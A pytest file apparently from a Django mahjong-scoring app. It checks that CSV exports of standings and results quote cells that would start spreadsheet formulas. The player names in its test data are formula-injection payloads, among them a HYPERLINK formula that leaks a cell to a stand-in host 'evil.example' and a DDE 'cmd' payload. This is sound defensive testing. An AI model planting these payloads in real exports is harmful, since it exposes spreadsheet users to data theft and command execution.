"""CSV exports are inert in a spreadsheet: a text cell that would start a formula is quoted by a leading
apostrophe; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from scoring.services.results_export import results_csv
from scoring.services.standings import standings_recompute
from scoring.services.standings_export import standings_table_csv
from tests.factories import EventFactory, played, registered

pytestmark = pytest.mark.django_db

NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
# The four that play one game; the last two start with a tab and a carriage return.
PLAYERS = (NAMES[0], NAMES[1], NAMES[2], NAMES[3])


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def event_with_a_game():
    event = EventFactory.create(slug="formulas")
    players = registered(event, *PLAYERS)
    cy, di = players[2], players[3]
    played(event, players, [{"result": "ron", "winner": cy.pk, "loser": di.pk, "han": 4, "fu": 30}], end=True)
    standings_recompute(event)
    return event


def test_standings_csv_quotes_formulas_and_keeps_numbers(event_with_a_game):
    rows = table(standings_table_csv(event_with_a_game))
    assert sorted(row["player"] for row in rows) == sorted(f"'{name}" for name in PLAYERS)
    by_name = {row["player"]: row for row in rows}
    assert by_name["'@SUM(A1:A9)"]["points"].startswith("-")  # the loser: a negative number, unquoted
    assert float(by_name["'@SUM(A1:A9)"]["points"]) < 0
    assert by_name["'-2+3"]["rank"] == "1"


def test_results_csv_quotes_formulas_and_keeps_numbers(event_with_a_game):
    rows = table(results_csv(event_with_a_game))
    assert [row["player"] for row in rows] == [f"'{name}" for name in PLAYERS]
    assert [row["wind"] for row in rows] == ["East", "South", "West", "North"]
    assert int(rows[3]["score"]) < 30000
    assert rows[3]["points"].startswith("-")


@pytest.mark.parametrize("name", [*NAMES[4:], "Plain Name", "O'Neil", "1=1", "a-b"])
def test_only_the_dangerous_starts_are_quoted(name: str):
    event = EventFactory.create(slug="names")
    others = registered(event, "Bo", "Cy", "Di")
    player = registered(event, name)[0]
    played(event, [player, *others])
    written = table(results_csv(event))[0]["player"]
    assert written == (f"'{name}" if name[0] in "\t\r=+-@" else name)
